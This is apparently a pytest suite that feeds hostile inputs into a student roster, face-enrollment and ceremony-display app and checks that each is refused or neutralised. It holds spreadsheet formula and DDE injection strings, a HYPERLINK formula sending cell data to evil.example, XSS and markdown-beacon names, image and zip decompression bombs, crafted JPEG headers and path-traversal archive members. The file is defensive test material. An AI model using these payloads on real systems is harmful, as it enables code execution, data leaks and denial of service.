"""The hostile-input corpus: each input goes through the real entry point, gets a clear error, and changes nothing.

One table per entry point (roster import and hand edits, photos, exports, the big-screen views). Inputs that
are legitimate text but dangerous when shown or opened elsewhere (HTML in a name, a formula in an export) are
accepted and must come out neutralised. Older, narrower tests of the same code stay where they are
(tests/core/test_roster.py, test_exports.py, tests/faces/test_faces.py, tests/app/test_ceremony_pages.py).
"""

from __future__ import annotations

import csv as csvlib
import io
import re
import struct
import zipfile
import zlib

import cv2
import numpy as np
import openpyxl
import pandas as pd
import pytest

from core import exports, people
from core.faces.images import ImageError, decode_image, frame_size
from core.people import PersonError
from core.roster import RosterFileError, parse_roster
from core.services import Rollcall
from tests.app.conftest import as_user, camera, seeded, seeded_template  # noqa: F401 - fixtures

# ------------------------------------------------------------------------------------------------ rosters

HEAD = "student id,name,guardian,department\n"
GOOD = "6501001,Ann Lee,Mary Lee,Engineering\n6501002,Bob Ray,Tom Ray,Science\n"


def xlsx(rows: list[list]) -> bytes:
    """A workbook whose cells are all text (a cell typed as text may still start with "=")."""
    book = openpyxl.Workbook()
    for r, row in enumerate(rows, 1):
        for c, value in enumerate(row, 1):
            book.active.cell(r, c, value).data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv(*lines: str) -> bytes:
    return (HEAD + GOOD + "".join(line + "\n" for line in lines)).encode()


# (id, file bytes, file name, the error a person sees). Whole-file errors and row errors alike import nothing.
ROSTERS = [
    ("random-bytes", bytes(range(256)) * 16, "r.csv", "is not a CSV or Excel file"),
    ("utf-32", (HEAD + GOOD).encode("utf-32"), "r.csv", "is not a CSV or Excel file"),
    ("nul-bytes", csv("6501003,Ca\x00rl,,Eng") + b"\x00" * 64, "r.csv", "is not a CSV or Excel file"),
    ("empty", b"", "r.csv", "empty"),
    ("not-xlsx", b"PK\x03\x04" + bytes(200), "r.xlsx", "damaged|not a CSV or Excel|ZIP"),
    ("no-id-column", b"name,phone\nAnn,0812345678\n", "r.csv", "no column for the student id"),
    ("no-name-column", b"student id,phone\n6501001,0812345678\n", "r.csv", "no column for the name"),
    ("duplicate-ids", csv("6501001,Ann Again,,Eng"), "r.csv", "student id '6501001' is repeated; first used on row 2"),
    ("duplicate-ids-case", b"student id,name\nS001,Ann\ns001,Bob\n", "r.csv", "is repeated"),
    ("formula-dde", csv("6501003,=cmd|' /C calc'!A0,,Eng"), "r.csv", "starts with '=' like a spreadsheet formula"),
    ("formula-plus", csv("6501003,+1+cmd|' /C calc'!A0,,Eng"), "r.csv", "starts with '\\+' like a spreadsheet"),
    ("formula-minus", csv("6501003,Carl,,-2+3+cmd|' /C calc'!A0"), "r.csv", "starts with '-' like a spreadsheet"),
    ("formula-at", csv("6501003,Carl,@SUM(1+1)*cmd|' /C calc'!A0,Eng"), "r.csv", "starts with '@' like a"),
    ("formula-after-tab", csv('6501003,"\t=1+1",,Eng'), "r.csv", "starts with '=' like a spreadsheet formula"),
    ("formula-in-id", csv("=1+2,Carl,,Eng"), "r.csv", "'=1\\+2' is not a student id"),
    ("html-in-id", csv("<script>alert(1)</script>,Carl,,Eng"), "r.csv", "is not a student id"),
    ("long-id", csv("9" * 5000 + ",Carl,,Eng"), "r.csv", "is not a student id"),
    ("10k-name", csv("6501003," + "ก" * 10_000 + ",,Eng"), "r.csv", "name is 10,000 characters long; the limit is 200"),
    ("10k-department", csv("6501003,Carl,," + "x" * 10_000), "r.csv", "department is 10,000 characters long"),
    ("oversized", HEAD.encode() + b"6501003,Carl,,Eng\n" * 700_000, "r.csv", "the limit is 10.0 MB"),
    ("xlsx-formula-text", xlsx([["student id", "name"], ["6501003", "=cmd|' /C calc'!A0"]]), "r.xlsx",
     "starts with '=' like a spreadsheet formula"),
    ("xlsx-html-id", xlsx([["student id", "name"], ["<b>1</b>", "Carl"]]), "r.xlsx", "is not a student id"),
]


@pytest.fixture
def roster_app(app):
    people.commit_import(app, parse_roster((HEAD + GOOD).encode(), "good.csv"), "admin")
    return app


def state(app: Rollcall) -> tuple:
    return app.log.head(), app.db.query("SELECT * FROM people ORDER BY student_id").to_csv()


@pytest.mark.parametrize(("data", "name", "expected"), [c[1:] for c in ROSTERS], ids=[c[0] for c in ROSTERS])
def test_hostile_roster_gets_a_clear_error_and_imports_nothing(roster_app, data, name, expected):
    """The page's and the CLI's path: parse with the configured limits, then commit (all or nothing)."""
    app = roster_app
    before = state(app)
    try:
        preview = parse_roster(data, name, max_bytes=app.settings.max_roster_bytes,
                               max_rows=app.settings.max_roster_rows)
    except RosterFileError as exc:
        message = str(exc)
    else:
        assert preview.errors, f"accepted: {preview.rows[-1:]}"
        message = " | ".join(str(e) for e in preview.errors)
        with pytest.raises(PersonError, match="have errors"):
            people.commit_import(app, preview, "op")
    assert re.search(expected, message), message
    assert len(message) < 2000  # a clear sentence, not a dump of the file
    assert state(app) == before


# (id, field, value, the error). A hand edit on the People page goes through the same rules.
EDITS = [
    ("formula-name", "name", "=cmd|' /C calc'!A0", "like a spreadsheet formula"),
    ("nul-in-name", "name", "Ann\x00Lee", "control characters"),
    ("10k-guardian", "guardian_name", "x" * 10_000, "10,000 characters long"),
    ("html-phone", "phone", "<img src=x onerror=alert(1)>", "is not a phone number"),
    ("formula-email", "email", "=1+1", "is not an e-mail address"),
    ("empty-name", "name", "   ", "cannot be empty"),
]


@pytest.mark.parametrize(("field", "value", "expected"), [c[1:] for c in EDITS], ids=[c[0] for c in EDITS])
def test_hostile_hand_edit_is_refused(roster_app, field, value, expected):
    before = state(roster_app)
    with pytest.raises(PersonError, match=expected):
        people.update(roster_app, "op", "6501001", {field: value}, reason="test")
    assert state(roster_app) == before


# ------------------------------------------------------------------------------------------------- photos

def png_header(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    idat = zlib.compress(b"\x00" * 1000)
    return (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
            + struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat)))


def webp_lossless_header(width: int, height: int) -> bytes:
    bits = (width - 1) | ((height - 1) << 14)
    body = b"\x2f" + struct.pack("<I", bits) + bytes(64)
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def bmp_header(width: int, height: int) -> bytes:
    return (b"BM" + struct.pack("<IHHI", 54, 0, 0, 54)
            + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0) + bytes(64))


GOOD_JPEG = cv2.imencode(".jpg", np.full((480, 640, 3), 120, np.uint8))[1].tobytes()

# (id, bytes, the reason shown). Bombs declare far more pixels than allowed and must be refused before decoding.
PHOTOS = [
    ("zero-bytes", b"", "the file is empty"),
    ("truncated-jpeg", GOOD_JPEG[: len(GOOD_JPEG) // 2], "truncated"),
    ("jpeg-header-only", b"\xff\xd8\xff\xe0" + bytes(20), "truncated|corrupt"),
    ("text", b"these are not pixels" * 50, "not an image"),
    ("html", b"<html><script>alert(1)</script></html>", "not an image"),
    ("png-bomb", png_header(50_000, 50_000), "too large \\(limit 40 megapixels\\)"),
    ("png-bomb-wide", png_header(100_000, 1_000), "100000×1000 pixels is too large"),
    ("webp-bomb", webp_lossless_header(16_000, 16_000), "too large"),
    ("bmp-bomb", bmp_header(20_000, 20_000), "too large"),
    ("ppm-bomb", b"P6\n30000 30000\n255\n" + bytes(100), "too large"),
    ("oversized", b"\xff\xd8\xff" + bytes(15_000_001), "larger than the 15 MB limit"),
]


@pytest.mark.parametrize(("data", "expected"), [c[1:] for c in PHOTOS], ids=[c[0] for c in PHOTOS])
def test_hostile_photo_gets_a_plain_reason_from_the_decoder(settings, data, expected):
    """Every upload path (enrollment, identify, the ceremony camera, device frames) decodes through here."""
    with pytest.raises(ImageError, match=expected) as caught:
        decode_image(data, "upload.jpg", max_bytes=settings.max_image_bytes, max_pixels=settings.max_image_pixels)
    assert str(caught.value).startswith("upload.jpg: ") and len(str(caught.value)) < 200


# --- crafted JPEG headers (issue #12): the true frame size is read by Pillow before OpenCV decodes anything

def jpeg_segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def sof(width: int, height: int, marker: int = 0xC0) -> bytes:
    """A start-of-frame segment: 8 bits, 3 components (4:2:0), as OpenCV writes them."""
    return jpeg_segment(marker, struct.pack(">BHHB", 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01")


SMALL_JPEG = cv2.imencode(".jpg", np.full((48, 64, 3), 120, np.uint8))[1].tobytes()


def jpeg_segments(jpeg: bytes) -> tuple[list[tuple[int, bytes]], bytes]:
    """The marker segments of a baseline JPEG up to and including SOS, and the entropy-coded rest."""
    out, i = [], 2
    while True:
        marker, length = jpeg[i + 1], struct.unpack(">H", jpeg[i + 2:i + 4])[0]
        out.append((marker, jpeg[i:i + 2 + length]))
        i += 2 + length
        if marker == 0xDA:
            return out, jpeg[i:]


def crafted_jpeg(width: int, height: int, *, sof_marker: int = 0xC0, fill: bytes = b"", fake_app1: bool = False,
                 sof_before: tuple[int, int] | None = None, sof_after: tuple[int, int] | None = None,
                 padding: int = 0) -> bytes:
    """SMALL_JPEG's segments with the frame header replaced: `fill` (0xFF fill bytes, legal before any marker)
    before every marker, an APP1 segment holding a fake 64×64 SOF, extra SOFs, scan data padded to a size."""
    segments, scan = jpeg_segments(SMALL_JPEG)
    parts = [b"\xff\xd8"]
    for marker, segment in segments:
        if marker != 0xC0:
            parts.append(fill + segment)
            continue
        if fake_app1:
            parts.append(fill + jpeg_segment(0xE1, b"Exif\x00\x00" + sof(64, 64)))
        if sof_before:
            parts.append(sof(*sof_before))
        parts.append(fill + sof(width, height, sof_marker))
        if sof_after:
            parts.append(sof(*sof_after))
    body = scan[:-2] + bytes(max(0, padding - len(scan))) + b"\xff\xd9"
    return b"".join(parts) + body


def issue_jpeg(width: int, height: int) -> bytes:
    """The file of issue #12 (66 kB): one 0xFF fill byte after SOI made our old header walker take FF FF for a
    marker and the next two bytes (the APP1 marker's E1 and its length's high byte) for a length, 0xE1F0, which
    landed it 57 kB inside the APP1 payload on a fake 64×64 SOF; the real SOF, after the APP1, is huge."""
    length = 0xF000
    landing = 2 + 1 + 1 + 0xE100 + (length >> 8)  # SOI, the fill byte's "marker", the misread length
    payload = bytearray(b"Exif\x00\x00" + bytes(length - 2 - 6))
    fake = sof(64, 64)
    payload[landing - 7:landing - 7 + len(fake)] = fake  # the payload starts at 7: SOI, fill, FF E1, length
    app1 = b"\xff\xe1" + struct.pack(">H", length) + bytes(payload)
    return b"\xff\xd8" + b"\xff" + app1 + crafted_jpeg(width, height, padding=4_000)[2:]


ISSUE_JPEG = issue_jpeg(20_000, 20_000)
TOO_LARGE = "pixels is too large \\(limit 40 megapixels\\)|the image is too large \\(limit 40 megapixels\\)"
HEADER_UNREADABLE = "a truncated or corrupt image \\(its header cannot be read\\)"

# (id, bytes, the reason). Each reason is one only the header check gives: OpenCV never saw the bytes.
CRAFTED_JPEGS = [
    ("issue-66kB-fill-and-fake-app1-sof", ISSUE_JPEG, TOO_LARGE),
    ("issue-file-under-pillow-limit", issue_jpeg(9000, 9000), "9000×9000 pixels is too large"),
    ("fill-bytes-before-markers", crafted_jpeg(8000, 6000, fill=b"\xff" * 7), "8000×6000 pixels is too large"),
    ("fake-sof-in-app1", crafted_jpeg(9000, 9000, fake_app1=True), "9000×9000 pixels is too large"),
    ("progressive-sof2", crafted_jpeg(8000, 8000, sof_marker=0xC2), "8000×8000 pixels is too large"),
    ("extended-sof1", crafted_jpeg(7000, 7000, sof_marker=0xC1), "7000×7000 pixels is too large"),
    ("arithmetic-sof9", crafted_jpeg(65_535, 65_535, sof_marker=0xC9), TOO_LARGE),
    ("two-sofs-small-then-huge", crafted_jpeg(8000, 8000, sof_before=(64, 48)), TOO_LARGE),
    ("two-sofs-huge-then-small", crafted_jpeg(64, 48, sof_before=(20_000, 20_000)), "more than one frame header"),
    ("two-sofs-same-size", crafted_jpeg(64, 48, sof_after=(64, 48)), "more than one frame header"),
    ("huge-sof-tiny-file", b"\xff\xd8" + sof(65_535, 65_535) + b"\xff\xd9", TOO_LARGE),
    ("truncated-after-huge-sof", ISSUE_JPEG[:ISSUE_JPEG.index(sof(20_000, 20_000)) + 19], TOO_LARGE),
    ("truncated-inside-a-segment", SMALL_JPEG[:SMALL_JPEG.index(b"\xff\xc4") + 10], HEADER_UNREADABLE),
    ("truncated-before-sof", SMALL_JPEG[:SMALL_JPEG.index(b"\xff\xc0")], HEADER_UNREADABLE),
    ("zero-height-sof-dnl", crafted_jpeg(64, 0), HEADER_UNREADABLE),
    ("bad-segment-length", b"\xff\xd8\xff\xe1\x00\x01" + bytes(40), HEADER_UNREADABLE),
    ("no-marker-after-soi", b"\xff\xd8" + b"\x00" * 100 + b"\xff\xd9", HEADER_UNREADABLE),
]


@pytest.mark.parametrize(("data", "expected"), [c[1:] for c in CRAFTED_JPEGS], ids=[c[0] for c in CRAFTED_JPEGS])
def test_crafted_jpeg_headers_are_refused_before_decoding(settings, data, expected):
    """`frame_size` only reads headers (it never calls OpenCV); `decode_image` refuses with its very message, so
    the refusal happened before any pixel buffer was allocated."""
    limits = {"max_bytes": settings.max_image_bytes, "max_pixels": settings.max_image_pixels}
    with pytest.raises(ImageError, match=expected) as header_only:
        frame_size(data, "cam.jpg", max_pixels=limits["max_pixels"])
    with pytest.raises(ImageError) as decoded:
        decode_image(data, "cam.jpg", **limits)
    assert str(decoded.value) == str(header_only.value)
    assert str(decoded.value).startswith("cam.jpg: ") and len(str(decoded.value)) < 200


def test_the_issue_file_is_small_and_declares_a_huge_frame():
    assert 60_000 < len(ISSUE_JPEG) < 70_000 and ISSUE_JPEG[2:5] == b"\xff\xff\xe1"
    assert ISSUE_JPEG.index(sof(64, 64)) < ISSUE_JPEG.index(sof(20_000, 20_000))


def test_legal_jpeg_variants_still_decode(settings):
    """Fill bytes, an APP1 that happens to hold SOF-like bytes and progressive coding are all legal."""
    limits = {"max_bytes": settings.max_image_bytes, "max_pixels": settings.max_image_pixels}
    progressive = cv2.imencode(".jpg", np.full((48, 64, 3), 90, np.uint8), [cv2.IMWRITE_JPEG_PROGRESSIVE, 1])[1]
    for data in (crafted_jpeg(64, 48, fill=b"\xff\xff", fake_app1=True), progressive.tobytes(), GOOD_JPEG):
        width, height = frame_size(data, "ok.jpg", max_pixels=limits["max_pixels"])
        assert decode_image(data, "ok.jpg", **limits).shape[:2] == (height, width)


def test_every_entry_point_decodes_through_the_one_guard():
    """No module but core/faces/images.py hands bytes to an image decoder: enrollment, the bulk .zip, Identify
    (page and CLI), the line-up check and device frames all call decode_image."""
    from core.config import PROJECT_ROOT

    decoders = re.compile(r"cv2\.imdecode|Image\.open\(|imageio|skimage\.io|cv2\.imread")
    offenders = [str(path.relative_to(PROJECT_ROOT)) for folder in ("core", "pages", "receiver")
                 for path in (PROJECT_ROOT / folder).rglob("*.py")
                 if path.name != "images.py" and decoders.search(path.read_text(encoding="utf-8"))]
    offenders += [] if not decoders.search((PROJECT_ROOT / "streamlit_app.py").read_text()) else ["streamlit_app.py"]
    assert offenders == []
    users = {str(path.relative_to(PROJECT_ROOT)) for folder in ("core", "pages")
             for path in (PROJECT_ROOT / folder).rglob("*.py") if "decode_image(" in path.read_text(encoding="utf-8")}
    assert {"core/faces/service.py", "core/faces/frames.py", "core/ceremonies.py", "pages/people.py"} <= users


def test_crafted_jpegs_through_identify_and_the_lineup_check(roster_app):
    from core import ceremonies

    app = roster_app
    for case, data, expected in CRAFTED_JPEGS:
        with pytest.raises(ImageError, match=expected):
            app.faces.identify(data, case)
        with pytest.raises(ImageError, match=expected):
            ceremonies.check_lineup(app, "op", "no-such-ceremony", data, require_face=True)


def test_hostile_photos_through_enrollment_store_nothing(roster_app):
    """The real entry point: each photo gets a verdict with its reason, and no template is stored."""
    app = roster_app
    app.faces.record_consent("6501001", "signed form", "test")
    before = state(app)
    verdicts = app.faces.enroll("6501001", [(c[0], c[1]) for c in PHOTOS + CRAFTED_JPEGS], "op")
    for (name, _, expected), verdict in zip(PHOTOS + CRAFTED_JPEGS, verdicts, strict=True):
        assert verdict.name == name and not verdict.accepted and re.search(expected, verdict.reason), verdict
    assert app.db.scalar("SELECT count(*) FROM face_templates") == 0
    assert state(app) == before


# ---------------------------------------------------------------------------------- bulk enrollment .zip

def zip_patch(data: bytes, name: str, **fields: int) -> bytes:
    """Rewrite a member's header fields in its local header and in the central directory, as a damaged or
    hostile archive would have them. `flags` is OR-ed in (bit 0: encrypted)."""
    local = {"flags": 6, "method": 8, "crc": 14, "csize": 18, "usize": 22}
    central = {"flags": 8, "method": 10, "crc": 16, "csize": 20, "usize": 24}
    out = bytearray(data)
    for found in re.finditer(re.escape(name.encode()), data):
        for signature, start, offsets in ((b"PK\x03\x04", found.start() - 30, local),
                                          (b"PK\x01\x02", found.start() - 46, central)):
            if start < 0 or data[start:start + 4] != signature:
                continue
            for key, value in fields.items():
                if key in ("flags", "method"):
                    old = struct.unpack_from("<H", data, start + offsets[key])[0]
                    struct.pack_into("<H", out, start + offsets[key], old | value if key == "flags" else value)
                else:
                    struct.pack_into("<I", out, start + offsets[key], value)
    return bytes(out)


def hostile_zip(photos) -> tuple[bytes, dict[str, str]]:
    """One good person, and one person per kind of broken member (file name -> the error expected)."""
    obama, biden = (photos / "obama.jpg").read_bytes(), (photos / "biden.jpg").read_bytes()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("6501001.jpg", obama)  # good
        zf.writestr("6501002.jpg", biden)  # encrypted (flag bit)
        zf.writestr("6501003/front.jpg", (photos / "obama3.jpg").read_bytes())  # good, but ...
        zf.writestr("6501003/side.jpg", obama)  # ... an unknown compression method: 6501003 gets nothing
        zf.writestr("6501004.jpg", biden, compress_type=zipfile.ZIP_DEFLATED)  # corrupt deflate data
        zf.writestr("6501005.jpg", obama)  # bad CRC
        zf.writestr("6501006.jpg", bytes(40_000_000), compress_type=zipfile.ZIP_DEFLATED)  # a 40 MB bomb
        zf.writestr("6501007.jpg", bytes(40_000_000), compress_type=zipfile.ZIP_DEFLATED)  # declares 1 kB
        zf.writestr("6501008.jpg", biden)  # declares 3 GB
        zf.writestr("../6501009.jpg", biden)  # leaves the folder
        zf.writestr("/etc/6501010.jpg", biden)  # absolute
        zf.writestr("6501011.jpg", biden)  # good, after all the broken ones (Obama again would be a look-alike)
    data = buffer.getvalue()
    data = zip_patch(data, "6501002.jpg", flags=0x1)
    data = zip_patch(data, "6501003/side.jpg", method=99)
    start = data.index(b"6501004.jpg") + len("6501004.jpg")
    data = data[:start + 40] + b"\xff" * 64 + data[start + 104:]
    data = zip_patch(data, "6501005.jpg", crc=0x12345678)
    data = zip_patch(data, "6501007.jpg", usize=1000)
    data = zip_patch(data, "6501008.jpg", usize=3_000_000_000)
    return data, {
        "6501002.jpg": "encrypted", "6501003/side.jpg": "compressed with a method that cannot be read",
        "6501004.jpg": "damaged", "6501005.jpg": "checksum \\(CRC\\) does not match",
        "6501006.jpg": "unpacks to 40.0 MB, more than the 15 MB", "6501007.jpg": "checksum \\(CRC\\) does not match",
        "6501008.jpg": "unpacks to 3,000.0 MB", "../6501009.jpg": "leaves the archive's folder",
        "/etc/6501010.jpg": "leaves the archive's folder"}


@pytest.fixture
def demo_app(app):
    from datetime import date

    from core.demo import load_demo

    load_demo(app, today=date(2026, 11, 22))
    return app


def test_broken_zip_members_get_their_own_error_and_the_rest_is_enrolled(demo_app, photos):
    from core.faces.bulk import enroll_zip

    app = demo_app
    data, expected = hostile_zip(photos)
    seen = []
    result = enroll_zip(app.faces, data, "op", consent_method="signed forms",
                        progress=lambda n, total, name: seen.append((n, total)))
    errors = dict(result.errors)
    assert sorted(errors) == sorted(expected)
    for name, pattern in expected.items():
        assert re.search(pattern, errors[name]), (name, errors[name])
        assert len(errors[name]) < 200
    verdicts = {v.name: (sid, v) for sid, v in result.verdicts}
    for name in expected:  # each broken file is in the verdict table too, refused with the same reason
        assert not verdicts[name][1].accepted and verdicts[name][1].reason == errors[name]
    assert verdicts["6501001.jpg"][1].accepted and verdicts["6501011.jpg"][1].accepted
    front = verdicts["6501003/front.jpg"][1]
    assert not front.accepted and "6501003/side.jpg, another photo of this person, could not be read" in front.reason
    assert result.enrolled == 2 and seen[-1] == (len(result.verdicts), len(result.verdicts))
    enrolled = app.db.query("SELECT student_id, photo_count FROM people WHERE photo_count > 0")
    assert dict(zip(enrolled["student_id"], enrolled["photo_count"], strict=True)) == {"6501001": 1, "6501011": 1}
    # Nothing half-done for a person with a broken file: no template and no consent recorded for the batch.
    assert app.db.scalar("SELECT count(*) FROM face_templates") == 2
    consented = set(app.db.query("SELECT student_id FROM consents")["student_id"])
    assert consented == {"6501001", "6501011"}


def test_broken_zip_member_does_not_leave_a_person_half_enrolled_when_run_again(demo_app, photos):
    """The operator fixes the archive and runs it again: the person is enrolled once, with every photo."""
    from core.faces.bulk import enroll_zip

    app = demo_app
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("6501003/front.jpg", (photos / "obama3.jpg").read_bytes())
        zf.writestr("6501003/side.jpg", (photos / "obama.jpg").read_bytes())
    good = buffer.getvalue()
    broken = zip_patch(good, "6501003/side.jpg", crc=1)
    assert enroll_zip(app.faces, broken, "op", consent_method="signed forms").enrolled == 0
    assert app.db.scalar("SELECT count(*) FROM face_templates") == 0
    assert enroll_zip(app.faces, good, "op", consent_method="signed forms").enrolled == 2
    assert app.db.scalar("SELECT photo_count FROM people WHERE student_id = '6501003'") == 2


@pytest.mark.parametrize(("data", "expected"), [
    (b"PK\x03\x04" + bytes(100), "not a .zip file"),
    (b"", "not a .zip file"),
    (b"PK\x05\x06" + bytes(18), None),  # an empty archive: nothing to do, no error
], ids=["damaged-directory", "empty-file", "empty-archive"])
def test_a_zip_that_cannot_be_opened_is_one_clear_error(demo_app, data, expected):
    from core.faces.bulk import ZipError, enroll_zip

    if expected is None:
        result = enroll_zip(demo_app.faces, data, "op")
        assert result.verdicts == [] and result.errors == []
        return
    with pytest.raises(ZipError, match=expected):
        enroll_zip(demo_app.faces, data, "op")


# ------------------------------------------------------------------------------------------------ exports

# (id, a cell's text, what a spreadsheet must show). Text that starts like a formula keeps an apostrophe.
CELLS = [
    ("dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3", "'-2+3"),
    ("at", "@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("carriage-return", "\r=1+1", "'\r=1+1"),
    ("row-split", "Ann\r=cmd|' /C calc'!A0", "Ann\r=cmd|' /C calc'!A0"),  # quoted: no new row starts at "="
    ("newline-split", "Ann\n@SUM(1)", "Ann\n@SUM(1)"),
    ("html", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("thai", "สมชาย ใจดี", "สมชาย ใจดี"),
]
# Characters a worksheet cannot hold are dropped from Excel cells (one used to fail the whole export).
EXCEL_ONLY = [
    ("bell", "Ann\x07 Lee", "Ann Lee"),
    ("nul-then-formula", "\x00=1+1", "'=1+1"),
    ("escape-sequence", "\x1b[31mred", "[31mred"),
    ("40k-chars", "y" * 40_000, "y" * 32_767),
]


def export_frame(values: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"student_id": [f"65010{n:02d}" for n in range(len(values))], "name": values})


def test_hostile_cells_are_neutralised_in_csv():
    data = b"".join(exports.csv_stream([export_frame([c[1] for c in CELLS])]))
    _, *rows = csvlib.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    for (case, _, shown), (_, got) in zip(CELLS, rows, strict=True):
        assert got == shown, case


def test_hostile_cells_are_text_in_excel():
    cases = CELLS + EXCEL_ONLY
    sheet = openpyxl.load_workbook(io.BytesIO(exports.excel_bytes([export_frame([c[1] for c in cases])]))).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    for (case, _, shown), cell in zip(cases, cells, strict=True):
        assert cell.data_type == "s", (case, cell.data_type)  # a string, never a formula
        assert cell.value == shown.replace("\r", "\n") or cell.value == shown, case


# ------------------------------------------------------------------------------------ board and announcer

HOSTILE_NAMES = ["<script>alert('x')</script>", "\"><img src=x onerror=alert(1)>", "</div><h1>fake</h1>",
                 "<b>สมชาย</b> & ใจดี"]


def test_html_in_names_is_escaped_on_the_board_and_the_announcer(seeded):  # noqa: F811 - the fixture
    from core import ceremonies
    from core.config import PROJECT_ROOT

    app = Rollcall(seeded)
    cid = app.db.scalar("SELECT ceremony_id FROM ceremonies")
    order = app.db.query("SELECT student_id FROM ceremony_entries WHERE ceremony_id = ? ORDER BY order_no "
                         "LIMIT 4", [cid])["student_id"]
    for sid, name in zip(order, HOSTILE_NAMES, strict=True):
        people.update(app, "admin", sid, {"name": name, "name_en": name, "department": name}, reason="test")
    ceremonies.act(app, "op", cid, "ceremony.started")
    ceremonies.call_next(app, "op", cid)
    app.close()
    for page in ("board", "announcer"):
        at = as_user(str(PROJECT_ROOT / "pages" / f"{page}.py"), "vi").run()
        assert not at.exception, at.exception
        body = " ".join(h.proto.body for h in at.get("html"))
        for name in HOSTILE_NAMES if page == "board" else HOSTILE_NAMES[:3]:  # the announcer shows the next two
            assert name not in body, (page, name)
            assert name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in body.replace(
                "&quot;", '"').replace("&#x27;", "'"), (page, name)


MARKDOWN_NAMES = ["![x](http://evil.example/pixel.png)", "[click](http://evil.example) :red[red] **bold**",
                  "$\\frac{1}{0}$ <http://evil.example> ~~struck~~"]


def test_markdown_in_names_is_shown_as_typed_on_the_console_and_the_people_page(seeded):  # noqa: F811 - fixture
    """Streamlit renders markdown: a name must not become an image that browsers fetch, a link, maths or colour."""
    from core import ceremonies
    from core.config import PROJECT_ROOT
    from pages._ui import plain

    app = Rollcall(seeded)
    cid = app.db.scalar("SELECT ceremony_id FROM ceremonies")
    first = app.db.scalar("SELECT student_id FROM ceremony_entries WHERE ceremony_id = ? ORDER BY order_no "
                          "LIMIT 1", [cid])
    people.update(app, "admin", first, {"name": MARKDOWN_NAMES[0], "name_en": MARKDOWN_NAMES[1]}, reason="test")
    ceremonies.act(app, "op", cid, "ceremony.started")
    ceremonies.call_next(app, "op", cid)
    app.close()
    at = as_user(str(PROJECT_ROOT / "pages" / "ceremony.py"), "op").run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown]
    assert f"## {plain(MARKDOWN_NAMES[0])}" in shown
    for name in MARKDOWN_NAMES:
        assert plain(name) != name and not any(name in text for text in shown)
    assert plain("สมชาย ใจดี (Somchai) 6501001.csv") == "สมชาย ใจดี (Somchai) 6501001.csv"  # plain text unchanged


RENDERED = ("markdown", "caption", "title", "header", "subheader", "success", "info", "warning", "error", "toast")


def test_a_hostile_name_is_shown_as_typed_on_every_page(seeded):  # noqa: F811 - the fixture
    """A roster name (and class, venue, reason) written as markdown reaches no page as markdown: every page, for the
    role that sees most of it, with that person called on stage, checked in, corrected and in the audit trail."""
    from core import ceremonies, sessions
    from tests.app.test_pages import PAGES

    hostile = MARKDOWN_NAMES[0]
    app = Rollcall(seeded)
    cid = app.db.scalar("SELECT ceremony_id FROM ceremonies")
    first = app.db.scalar("SELECT student_id FROM ceremony_entries WHERE ceremony_id = ? ORDER BY order_no "
                          "LIMIT 1", [cid])
    people.update(app, "boss", first, {"name": hostile, "name_en": MARKDOWN_NAMES[1], "department": MARKDOWN_NAMES[2]},
                  reason=f"renamed to {hostile}")
    ceremonies.act(app, "boss", cid, "ceremony.started")
    ceremonies.call_next(app, "boss", cid)
    session_id = app.db.scalar("SELECT session_id FROM sessions s JOIN class_members m USING (class_id) "
                               "WHERE m.student_id = ? ORDER BY starts_at DESC LIMIT 1", [first])
    sessions.correct_record(app, session_id, first, "present", f"seen by {hostile}", "boss")
    app.close()
    for page, script in PAGES.items():
        user = "stu" if page == "my_attendance" else "boss"
        at = as_user(script, user).run()
        assert not at.exception, (page, at.exception)
        shown = [str(e.value) for kind in RENDERED for e in at.get(kind)]
        for name in MARKDOWN_NAMES:
            assert not any(name in text for text in shown), (page, name)
